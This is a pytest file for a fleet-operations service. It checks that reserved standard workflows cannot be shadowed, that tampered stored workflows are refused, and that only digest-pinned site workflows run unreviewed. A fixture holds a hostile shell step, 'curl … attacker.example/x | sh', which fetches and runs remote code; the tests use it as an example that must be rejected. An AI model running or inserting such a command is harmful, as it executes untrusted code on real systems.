"""No one shadows a standard workflow; a pre-approved change runs exactly its pinned version."""

from __future__ import annotations

from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from fleetops.audit.service import AuditContext
from fleetops.changes import service as changes
from fleetops.changes import standard
from fleetops.changes.enums import ChangeState
from fleetops.changes.exceptions import WorkflowNameReserved, WorkflowNotPinned
from fleetops.changes.operations import BUILTIN_DIR, load_library
from fleetops.devices.lifecycle.service import LifecycleConfig, isolate
from fleetops.models import AuditRecord, Host, Workflow
from tests.devices.factory import add_hosts
from tests.fixtures.app import Tokens, refusal_counts

SHADOW = (BUILTIN_DIR / "workflows" / "isolate-host.yaml").read_text()
SHELL_STEP = """
stages:
  - name: own
    steps:
      - operation: shell
        params: {command: "curl -s http://attacker.example/x | sh"}
"""
LIBRARY = load_library()
ALICE = AuditContext(actor="alice")


def _evil(version: int, name: str = "isolate-host") -> str:
    head = f"name: {name}\nversion: {version}\ndescription: drains, honest\n"
    return head + SHELL_STEP


@pytest.mark.parametrize("role", ["developer", "operator", "admin"])
def test_nobody_registers_a_version_of_a_standard_workflow(
    client: TestClient, tokens: Tokens, role: str
) -> None:
    for source in (_evil(2), _evil(99), _evil(1), SHADOW):
        refused = client.post(
            "/api/v1/workflows", json={"source": source}, headers=tokens.headers(role)
        )
        assert refused.status_code == 403, refused.text
        assert refused.json()["error"] == "WorkflowNameReserved"
    refused = refusal_counts(client, tokens.headers("admin"), action="http.post")
    assert refused == {(role, "/api/v1/workflows", "reserved"): 4}
    mine = client.post(
        "/api/v1/workflows",
        json={"source": _evil(1, name="my-isolate")},
        headers=tokens.headers("developer"),
    )
    assert mine.status_code == 201  # other names register as before (and wait for review)


def _host(session: Session, name: str) -> Host:
    add_hosts(session, name)
    host = session.scalar(select(Host).where(Host.hostname == name))
    assert host is not None
    return host


def test_the_policy_isolates_with_the_shipped_workflow_pre_approved(session: Session) -> None:
    host = _host(session, "h001")
    change = isolate(
        session, host, ctx=ALICE, reason="disk", evidence=(), config=LifecycleConfig(LIBRARY)
    )
    assert change.state == ChangeState.APPROVED.value
    row = session.get(Workflow, change.workflow_id)
    assert row is not None
    pin = standard.shipped()["isolate-host"][0]
    assert (row.name, row.version, row.digest, row.created_by) == (
        pin.name,
        pin.version,
        pin.digest,
        "system",
    )
    registered = session.scalar(select(AuditRecord).where(AuditRecord.action == "workflow.create"))
    assert registered is not None
    assert registered.after["digest"] == pin.digest


def test_a_tampered_standard_workflow_is_not_run_unreviewed(session: Session) -> None:
    host = _host(session, "h001")
    changes.pinned_workflow(session, "isolate-host", library=LIBRARY)
    # Someone with database access swaps the stored source for their own.
    session.execute(update(Workflow).values(source=_evil(1), digest=standard.digest_of(_evil(1))))
    with pytest.raises(WorkflowNotPinned, match="not the pinned"):
        isolate(
            session, host, ctx=ALICE, reason="disk", evidence=(), config=LifecycleConfig(LIBRARY)
        )


def test_a_sites_own_workflow_runs_unreviewed_only_when_pinned(session: Session) -> None:
    h1, h2 = _host(session, "h001"), _host(session, "h002")
    source = SHADOW.replace("name: isolate-host", "name: site-isolate")
    row = changes.register_workflow(session, ALICE, source=source, library=LIBRARY)
    bare = LifecycleConfig(LIBRARY, isolation_workflow="site-isolate")
    waiting = isolate(session, h1, ctx=ALICE, reason="disk", evidence=(), config=bare)
    assert waiting.state == ChangeState.PENDING_APPROVAL.value

    pinned = LifecycleConfig(LIBRARY, isolation_workflow=f"site-isolate@1#{row.digest}")
    approved = isolate(session, h2, ctx=ALICE, reason="disk", evidence=(), config=pinned)
    assert approved.state == ChangeState.APPROVED.value

    wrong = LifecycleConfig(LIBRARY, isolation_workflow=f"site-isolate@1#sha256:{'0' * 64}")
    with pytest.raises(WorkflowNotPinned):
        changes.pinned_workflow(session, wrong.isolation_workflow, library=LIBRARY)


def test_the_service_refuses_a_reserved_name_whoever_asks(session: Session) -> None:
    with pytest.raises(WorkflowNameReserved):
        changes.register_workflow(session, ALICE, source=_evil(2), library=LIBRARY)
    assert standard.is_reserved("inspect-hardware")
    assert {p.stem for p in Path(standard.SHIPPED_DIR).glob("*.yaml")} == set(standard.shipped())


def test_the_server_lists_the_shipped_workflows_with_their_pins(
    client: TestClient, tokens: Tokens
) -> None:
    listed = client.get("/api/v1/workflows", headers=tokens.headers("viewer")).json()
    rows = {row["name"]: row for row in (listed["items"] if "items" in listed else listed)}
    for name, (pin, _) in standard.shipped().items():
        assert (rows[name]["version"], rows[name]["digest"], rows[name]["created_by"]) == (
            pin.version,
            pin.digest,
            "system",
        )
